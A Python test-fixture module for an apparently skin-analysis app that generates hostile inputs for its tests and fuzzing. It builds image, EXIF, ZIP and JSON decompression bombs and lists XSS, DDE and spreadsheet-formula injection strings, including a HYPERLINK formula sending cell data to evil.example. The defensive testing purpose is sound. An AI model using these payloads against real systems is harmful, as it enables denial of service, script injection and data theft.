"""Hostile inputs made at run time, small on disk and costly to open: crafted image headers, bombs,
bundles and text. Shared by the tests, the seeded fuzz suite and ``bench/bench_hostile.py``.

Nothing here is random unless a ``random.Random`` is passed in, so every figure is reproducible.
"""
from __future__ import annotations

import io
import json
import struct
import subprocess
import sys
import textwrap
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]

#: How soon a refusal or an answer must come: far below what a hang, a time-out or a decoded bomb takes
#: (30 s and more), far above what a loaded CI machine stalls for (a 1-5 s bound failed there once).
PROMPTLY_SECONDS = 10.0


# -- images ------------------------------------------------------------------------------------------
def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_zeros(width: int, height: int, bit_depth: int = 8, colour_type: int = 2) -> bytes:
    """A real, complete PNG of black pixels, written row by row without holding the pixels in memory
    (a 40 MP 16-bit RGBA picture is about 300 KB on disk and 320 MB decoded)."""
    channels = {0: 1, 2: 3, 4: 2, 6: 4}[colour_type]
    row = b"\0" * (1 + (width * channels * bit_depth + 7) // 8)
    z = zlib.compressobj(9)
    parts = []
    rows_at_once = max(1, (1 << 20) // len(row))
    block = row * rows_at_once
    left = height
    while left > 0:
        n = min(left, rows_at_once)
        parts.append(z.compress(block if n == rows_at_once else row * n))
        left -= n
    parts.append(z.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", b"".join(parts)) + _chunk(b"IEND", b"")


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims a size but holds almost no data (a decompression bomb in miniature)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", zlib.compress(b"\0" * 64)) + _chunk(b"IEND", b"")


def tiff_of_zeros(width: int, height: int, bits: int = 32, sample_format: int = 3, samples: int = 1,
                  rows_per_strip: int | None = None) -> bytes:
    """A little-endian, deflate-compressed TIFF of zeros (default: one-channel 32-bit float, one strip):
    a few hundred KB that claim ``width * height * samples * bits / 8`` bytes of pixels."""
    rows_per_strip = rows_per_strip or height
    row = b"\0" * (width * samples * bits // 8)
    strips = []
    for top in range(0, height, rows_per_strip):
        z = zlib.compressobj(9)
        n = min(rows_per_strip, height - top)
        rows_at_once = max(1, (1 << 20) // max(1, len(row)))
        data, left = [], n
        while left > 0:
            k = min(left, rows_at_once)
            data.append(z.compress(row * k))
            left -= k
        data.append(z.flush())
        strips.append(b"".join(data))
    n_strips = len(strips)
    tags = 11
    ifd_at = 8
    extra_at = ifd_at + 2 + tags * 12 + 4
    offsets_at = extra_at
    counts_at = offsets_at + 4 * n_strips
    bits_at = counts_at + 4 * n_strips
    fmt_at = bits_at + 2 * samples
    data_at = fmt_at + 2 * samples
    offsets, pos = [], data_at
    for s in strips:
        offsets.append(pos)
        pos += len(s)

    def entry(tag: int, kind: int, count: int, value: int) -> bytes:
        if kind == 3 and count == 1:
            return struct.pack("<HHIHH", tag, kind, count, value, 0)
        return struct.pack("<HHII", tag, kind, count, value)

    one = n_strips == 1
    entries = [
        entry(256, 4, 1, width), entry(257, 4, 1, height),
        entry(258, 3, samples, bits if samples == 1 else bits_at),
        entry(259, 3, 1, 8),                                # deflate
        entry(262, 3, 1, 1 if samples == 1 else 2),         # black is zero / RGB
        entry(273, 4, n_strips, offsets[0] if one else offsets_at),
        entry(277, 3, 1, samples), entry(278, 4, 1, rows_per_strip),
        entry(279, 4, n_strips, len(strips[0]) if one else counts_at),
        entry(284, 3, 1, 1),                                # chunky
        entry(339, 3, samples, sample_format if samples == 1 else fmt_at),
    ]
    out = b"II*\0" + struct.pack("<I", ifd_at) + struct.pack("<H", tags) + b"".join(entries) + b"\0\0\0\0"
    out += struct.pack(f"<{n_strips}I", *offsets) + struct.pack(f"<{n_strips}I", *(len(s) for s in strips))
    out += struct.pack(f"<{samples}H", *([bits] * samples)) + struct.pack(f"<{samples}H", *([sample_format] * samples))
    assert len(out) == data_at
    return out + b"".join(strips)


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


class _BitWriter:
    """Bits into bytes as a JPEG's entropy-coded data holds them (a 0xFF byte is followed by 0x00)."""

    def __init__(self) -> None:
        self.out, self.acc, self.n = bytearray(), 0, 0

    def put(self, value: int, length: int) -> None:
        for i in range(length - 1, -1, -1):
            self.acc, self.n = (self.acc << 1) | ((value >> i) & 1), self.n + 1
            if self.n == 8:
                self.out += b"\xff\x00" if self.acc == 0xFF else bytes([self.acc])
                self.acc = self.n = 0

    def done(self) -> bytes:
        while self.n:
            self.put(1, 1)                    # pad the last byte with ones, as encoders do
        return bytes(self.out)


def jpeg_scan_bomb(width: int = 6000, height: int = 6000, scans: int = 5_300) -> bytes:
    """A valid progressive grey JPEG of ``scans`` passes (the default is 452 KB, as in issue 23). The first scan sets every
    block's DC to zero; each further scan is a spectral pass over the AC coefficients (1-63) that codes
    "no more coefficients" for every block as end-of-band runs of up to 32,767 blocks: 72 bytes that make
    the decoder visit all 562,500 blocks once more. Pillow's libjpeg decodes it (a flat grey picture)."""
    blocks = -(-width // 8) * -(-height // 8)
    tables = (_segment(0xDB, b"\x00" + b"\x01" * 64)                                      # quantisation: all 1
              + _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")   # progressive, grey
              + _segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")                  # DC: one code, "0"
              # AC: the 15 end-of-band run symbols EOB0..EOB14, each a 4-bit code
              + _segment(0xC4, b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + bytes(r << 4 for r in range(15))))
    dc_scan = _segment(0xDA, b"\x01\x01\x00\x00\x00\x00") + b"\x00" * -(-blocks // 8)
    bits, left = _BitWriter(), blocks
    while left:
        run = min(left, 32_767)
        n = run.bit_length() - 1
        bits.put(n, 4)                        # EOBn: a run of 2^n + (n more bits) blocks
        bits.put(run - (1 << n), n)
        left -= run
    ac_scan = _segment(0xDA, b"\x01\x01\x00\x01\x3f\x00") + bits.done()
    return b"\xff\xd8" + tables + dc_scan + ac_scan * (scans - 1) + b"\xff\xd9"


def directory_bomb(entries: int, block: int, first_tag: int = 40_000) -> bytes:
    """EXIF (a TIFF structure) whose first directory has ``entries`` entries that all point at one shared
    ``block`` of bytes: small on disk, ``entries * block`` bytes once Pillow copies each entry's data."""
    head = b"II*\x00" + struct.pack("<I", 8)
    data_at = 8 + 2 + entries * 12 + 4
    table = b"".join(struct.pack("<HHII", first_tag + i, 7, block, data_at) for i in range(entries))
    return head + struct.pack("<H", entries) + table + b"\0\0\0\0" + b"\x5a" * block


def _noise(size: int):
    import numpy as np
    return np.random.default_rng(0).integers(0, 256, (size, size, 3), dtype=np.uint8)


def png_with_exif(exif: bytes, size: int = 64) -> bytes:
    """A real PNG of noise with ``exif`` in an eXIf chunk."""
    png = encoded(_noise(size), "PNG")
    return png[:-12] + _chunk(b"eXIf", exif) + png[-12:]


def png_with_text(chunks: int, each: int = 1_000_000, size: int = 64) -> bytes:
    """A real PNG of noise with ``chunks`` zTXt chunks, each ``each`` bytes of text compressed to about
    1 KB (Pillow inflates every one at open)."""
    png = encoded(_noise(size), "PNG")
    text = zlib.compress(b"a" * each, 9)
    extra = b"".join(_chunk(b"zTXt", b"Comment%d\0\0" % i + text) for i in range(chunks))
    return png[:-12] + extra + png[-12:]


def webp_with_exif(exif: bytes, size: int = 64) -> bytes:
    return encoded(_noise(size), "WEBP", exif=exif, quality=90)


def jpeg_with_exif(exif: bytes, size: int = 64) -> bytes:
    """A real JPEG with ``exif`` split over as many APP1 segments as it needs (Pillow joins them)."""
    jpeg = encoded(_noise(size), "JPEG", quality=90)
    pieces = [exif[i:i + 65_000] for i in range(0, len(exif), 65_000)]
    return jpeg[:2] + b"".join(_segment(0xE1, b"Exif\0\0" + p) for p in pieces) + jpeg[2:]


def tiff_with_tags(entries: int, block: int, size: int = 64) -> bytes:
    """A real, uncompressed grey TIFF whose first directory also has ``entries`` private tags that all
    point at one shared ``block`` (Pillow reads every one at open)."""
    pixels = bytes(range(256)) * (size * size // 256 + 1)
    own = [(256, 4, 1, size), (257, 4, 1, size), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
           (273, 4, 1, 0), (277, 3, 1, 1), (278, 4, 1, size), (279, 4, 1, size * size)]
    n = len(own) + entries
    block_at = 8 + 2 + n * 12 + 4
    pixels_at = block_at + block
    table = [(t, k, c, pixels_at if t == 273 else v) for t, k, c, v in own]
    table += [(40_000 + i, 7, block, block_at) for i in range(entries)]

    def entry(tag: int, kind: int, count: int, value: int) -> bytes:
        if kind == 3:
            return struct.pack("<HHIHH", tag, kind, count, value, 0)
        return struct.pack("<HHII", tag, kind, count, value)
    return (b"II*\x00" + struct.pack("<IH", 8, n) + b"".join(entry(*e) for e in table) + b"\0\0\0\0"
            + b"\x5a" * block + pixels[:size * size])


def encoded(array, fmt: str, **kw) -> bytes:
    from PIL import Image
    buf = io.BytesIO()
    Image.fromarray(array).save(buf, format=fmt, **kw)
    return buf.getvalue()


def mutate(data: bytes, rng, flips: int = 8) -> bytes:
    """Seeded byte-level damage: flipped bytes, a cut-off tail, or a copied run, as a fuzzer would."""
    b = bytearray(data)
    how = rng.randrange(4)
    if how == 0:                              # flip bytes, often in the header where the sizes live
        for _ in range(flips):
            i = rng.randrange(min(len(b), 512)) if rng.random() < 0.6 else rng.randrange(len(b))
            b[i] = rng.randrange(256)
    elif how == 1:                            # truncate
        del b[rng.randrange(8, max(9, len(b))):]
    elif how == 2:                            # duplicate a run
        i = rng.randrange(len(b))
        j = min(len(b), i + rng.randrange(1, 4096))
        b[i:i] = b[i:j] * rng.randrange(1, 8)
    else:                                     # overwrite 4 bytes with a huge or tiny number
        i = rng.randrange(8, min(len(b), 64))
        b[i:i + 4] = struct.pack(">I", rng.choice([0, 1, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF, 50_000]))
    return bytes(b)


# -- text ----------------------------------------------------------------------------------------
HOSTILE_TEXTS = (
    "![x](http://evil.example/p.png)",
    "[click](http://evil.example/)",
    "<img src=http://evil.example/i.png onerror=alert(1)>",
    "<script>alert(1)</script>",
    "**bold** _it_ `code` # head :red[red]",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(1+1)", "\tTAB=1", "\rCR",
    "NUL\x00BEL\x07ESC\x1b[31m",
    "a" * 5000,
    "\u202eright-to-left\u202c", "emoji 👩🏽‍🔬", "\ufeffbom",
)


# -- peak memory of one call, measured in a fresh process ---------------------------------------
def peak_rss_mb(code: str, timeout: float = 120, exact: bool = False) -> dict:
    """Runs ``code`` (which must leave a JSON-serialisable ``result``) in a fresh Python and returns
    ``{"result": ..., "baseline_mb": ..., "peak_mb": ..., "delta_mb": ...}``: the peak resident set
    after imports (baseline) and after the call. Linux ``ru_maxrss`` is in KiB. The imports' own peak
    hides growth below it; ``exact`` resets the peak after the imports (``/proc/self/clear_refs``) and
    measures from the resident set there, so a few MB of growth show."""
    script = textwrap.dedent("""
        import json, resource, sys
        sys.path.insert(0, {root!r})
        from skin_app.config import setup_tensorflow_env; setup_tensorflow_env()
        {imports}
        base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
        result = None
        if {exact!r}:
            def _status(key):
                return next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith(key)) / 1024
            open("/proc/self/clear_refs", "w").write("5")
            base = _status("VmRSS")
        {code}
        peak = _status("VmHWM") if {exact!r} else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
        print(json.dumps({{"result": result, "baseline_mb": base, "peak_mb": peak, "delta_mb": peak - base}}))
    """)
    imports, _, body = code.partition("\n---\n")
    if not body:
        imports, body = "", code
    src = script.format(root=str(ROOT), imports=imports, code=body, exact=exact)
    proc = subprocess.run([sys.executable, "-c", src], capture_output=True, text=True, timeout=timeout, cwd=ROOT)
    if proc.returncode != 0:
        raise RuntimeError(proc.stderr[-3000:])
    return json.loads(proc.stdout.strip().splitlines()[-1])


def zip_with_lying_header(name: str, payload_size: int, claimed_size: int) -> bytes:
    """A ZIP whose member header (local and central) claims ``claimed_size`` bytes but inflates to
    ``payload_size`` (zeros, compressed as they are written: the payload is never held in memory)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=False) as member:
            block = b"\0" * (1 << 20)
            for _ in range(payload_size // len(block)):
                member.write(block)
            member.write(b"\0" * (payload_size % len(block)))
    data = bytearray(buf.getvalue())
    cd = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, cd + 24, claimed_size)     # central directory: uncompressed size
    struct.pack_into("<I", data, 22, claimed_size)          # local header: uncompressed size
    return bytes(data)


def deep_json(depth: int) -> bytes:
    return b'{"format": "skingorithm-profile", "format_version": 1, "scans": [' + b"[" * depth + b"]" * depth + b"]}"


# -- a database holding what an older version's import let through -------------------------------
EVIL = "![p](http://evil.example/p.png) [x](http://evil.example/) <img src=http://evil.example/i.png> :red[x] $x$"


def seed_hostile_records(db) -> dict:
    """Writes, with plain SQL as an older version's import did, records the current checks refuse: text
    that is Markdown and HTML aimed at an outside host, a fake PNG, masks of the wrong size, scores
    without ``overall``, routines the form would refuse. Returns the ids, for the tests."""
    import datetime as dt

    from PIL import Image
    today = dt.datetime.now(dt.timezone.utc).date()
    now = dt.datetime.now(dt.timezone.utc).replace(microsecond=0).isoformat()
    buf = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 150, 120)).save(buf, format="PNG")
    crop = buf.getvalue()
    buf = io.BytesIO()
    Image.new("RGBA", (20, 31), (255, 0, 0, 255)).save(buf, format="PNG")
    masks_wrong_size = buf.getvalue()
    scores = {"acne": 90.0, "flek": 91.0, "wrinkle": 92.0, "panda_eye": 93.0, "overall": 91.5}
    ids: dict = {}
    with db.transaction() as conn:
        pid = conn.execute("INSERT INTO profiles(name, created_at) VALUES (?, ?)", (EVIL[:60], now)).lastrowid
        ids["profile"] = pid
        rows = [
            ("2025-01-01T08:00:00+00:00", b"\x89PNG\r\n\x1a\n" + b"not really a picture" * 20, None, scores),
            ("2025-01-08T08:00:00+00:00", None, None, {"acne": 90.0}),                       # no overall
            ("2025-01-15T08:00:00+00:00", crop, masks_wrong_size, {**scores, "overall": 80.0}),
        ]
        ids["scans"] = []
        for taken, pic, masks, sc in rows:
            ids["scans"].append(conn.execute(
                "INSERT INTO scans(profile_id, taken_at, note, scores_json, metrics_json, model_version, crop_png, "
                "masks_png) VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
                (pid, taken, EVIL, json.dumps(sc), json.dumps({"acne_lesion_count": {"x": EVIL}}), EVIL, pic,
                 masks)).lastrowid)
        for name in (EVIL, "=HYPERLINK(\"http://evil.example\") " + EVIL):
            conn.execute("INSERT INTO shelf_products(profile_id, name, ingredients_text, inci_json, actives_json, "
                         "created_at) VALUES (?, ?, ?, '[]', '{}', ?)",
                         (pid, name, "Aqua, " + EVIL + ", Niacinamide, =cmd|' /C calc'!A0", now))
        conn.execute("INSERT INTO unknown_ingredients(profile_id, text, count, first_seen, last_seen, example_product) "
                     "VALUES (?, ?, 1, ?, ?, ?)", (pid, "=HYPERLINK(\"http://evil.example\") " + EVIL, now, now, EVIL))
        good = conn.execute(
            "INSERT INTO routines(profile_id, name, kind, time_of_day, timezone, start_date, weekdays, interval_days, "
            "alert_minutes, created_at, updated_at) VALUES (?, ?, 'daily', '23:59', 'UTC', ?, '', 1, 0, ?, ?)",
            (pid, EVIL[:80], (today - dt.timedelta(days=3)).isoformat(), "2000-01-01T00:00:00+00:00", now)).lastrowid
        for pos, text in enumerate((EVIL, "Cleanse")):
            conn.execute("INSERT INTO routine_steps(routine_id, position, text, product_name) VALUES (?, ?, ?, ?)",
                         (good, pos, text, EVIL))
        ids["good_routine"] = good
        ids["broken_routines"] = []
        for name, kind, start, end, weekdays, interval in (
                ("N" * 120 + EVIL, "daily", "2025-01-01", None, "", 1),
                ("no weekdays " + EVIL, "weekdays", "2025-01-01", None, "", 1),
                ("year 9999", "daily", "9999-12-31", None, "", 1),
                ("year 1", "daily", "0001-01-01", None, "", 1),
                ("ends first", "daily", "2025-05-01", "2025-01-01", "", 1),
                ("every million", "every_n_days", "2025-01-01", None, "", 10**6),
                ("bad weekday", "weekdays", "2025-01-01", None, "9", 1)):
            rid = conn.execute(
                "INSERT INTO routines(profile_id, name, kind, time_of_day, timezone, start_date, end_date, weekdays, "
                "interval_days, alert_minutes, created_at, updated_at) VALUES (?, ?, ?, '08:00', 'UTC', ?, ?, ?, ?, 0, "
                "?, ?)", (pid, name, kind, start, end, weekdays, interval, now, now)).lastrowid
            ids["broken_routines"].append(rid)
        for i in range(40):                                   # 40 steps on a routine that is otherwise fine
            conn.execute("INSERT INTO routine_steps(routine_id, position, text) VALUES (?, ?, ?)",
                         (ids["broken_routines"][0], i, f"step {i} {EVIL}"))
    return ids


# -- an export that imports, holding the worst values each rule still lets in ---------------------------
def _export_of_one_profile(fill) -> bytes:
    """A real JSON export of a profile ``fill(db, profile_id)`` builds in a throwaway database."""
    import tempfile

    from skin_app.history.export import export_json
    from skin_app.storage import Storage
    with tempfile.TemporaryDirectory() as tmp:
        db = Storage(Path(tmp) / "seed.sqlite3")
        pid = db.create_profile("Seed").id
        fill(db, pid)
        data = export_json(db, pid)
        db.close()
    return data


# Long runs of what once made the ingredient parser backtrack (issue 26, item 4), within the shelf's limits.
SLOW_PASTE = ("Aqua, " + " ." * 8_000 + "\u00a0" * 8_000 + "\t" * 4_000 + " -" * 8_000 + "(may contain " * 2_000
              + "\u200b" * 20_000 + ", Niacinamide")


def hostile_export() -> bytes:
    """A JSON export that the import accepts, every value at an edge the rules still allow: scans at the
    ends of the calendar every time zone can show (years 2 and 9998, UTC), measurements and capture
    conditions of +-10^15, a lesion count just under a million, Markdown, HTML, right-to-left and emoji
    text in the names, notes and model version, a nesting just inside the limit, a shelf product whose
    text is the long runs that once made the parser backtrack, a routine starting in the last year the form takes."""
    from datetime import date, time

    from skin_app.limits import MAX_NESTING, STORED_NUMBER_MAX
    from skin_app.routines.schedule import Routine, Schedule, Step
    big = STORED_NUMBER_MAX
    rtl = "\u202eevil\u202c 👩🏽‍🔬 "
    deep: dict = {"acne": float(big)}
    for _ in range(MAX_NESTING - 3):
        deep = {"x": deep}
    measurements = {"soft_fraction": {"acne": float(big), "flek": -float(big), "wrinkle": big, "panda_eye": 1e-300},
                    "area_fraction": {"acne": -big, "flek": float(big)}, "under_eye_contrast": -float(big),
                    "acne_lesion_count": 999_999, "per_region": {"forehead": {"acne": float(big)}, "chin": deep},
                    "conditions": {"exposure": float(big), "cast_red": -float(big), "cast_blue": float(big),
                                   "face_width_px": 0.0, "yaw": float(big), "pitch": -float(big)},
                    "timings": [big, -big, 0.0], EVIL: rtl}
    edge = {"acne": 0.0, "flek": 100.0, "wrinkle": 0.0, "panda_eye": 100.0, "redness": 0.0, "overall": 100.0}

    def fill(db, pid):
        db.add_scans(pid, [
            dict(taken_at="0002-01-01T00:00:00+00:00", scores=edge, metrics=measurements, model_version=EVIL + rtl,
                 note=(EVIL + "\n" + rtl) * 10),
            dict(taken_at="9998-12-31T23:59:59+00:00", scores=edge, metrics=measurements, model_version=EVIL, note=rtl),
            dict(taken_at="9998-12-31T23:58:00+00:00", scores={k: v for k, v in edge.items() if k != "panda_eye"},
                 metrics={**measurements, "view": "left"}, model_version=EVIL, view="left", visit=EVIL[:64]),
            dict(taken_at="0002-01-01T00:01:00+00:00", scores={"acne": 100.0, "flek": 0.0, "overall": 50.0},
                 metrics={**measurements, "view": "closeup"}, model_version=EVIL, view="closeup"),
        ])
        db.save_shelf_product(pid, (EVIL + rtl)[:120], SLOW_PASTE, inci=["AQUA", EVIL], actives={EVIL: [rtl]})
        db.create_routine(pid, Routine(EVIL[:80], Schedule("daily", time(23, 59), "Pacific/Kiritimati",
                                                            date(2199, 12, 31)), (Step(EVIL[:200]),)))
    doc = json.loads(_export_of_one_profile(fill))
    doc["profile"]["name"] = (rtl + EVIL)[:60]
    return json.dumps(doc, ensure_ascii=False).encode("utf-8")


def export_with_a_400_digit_measurement() -> bytes:
    """Issue 26's 703-byte reproducer in spirit: a real export whose measurement is a 400-digit integer
    (it once imported, and every page failed from the next start on). Refused now, in words."""
    def fill(db, pid):
        db.add_scan(pid, taken_at="2025-01-01T08:00:00+00:00", scores={"acne": 90.0, "flek": 90.0, "wrinkle": 90.0,
                    "panda_eye": 90.0, "overall": 90.0}, metrics={}, model_version="m1")
    doc = json.loads(_export_of_one_profile(fill))
    doc["scans"][0]["metrics"] = {"soft_fraction": {"acne": 10**400}}
    return json.dumps(doc).encode()
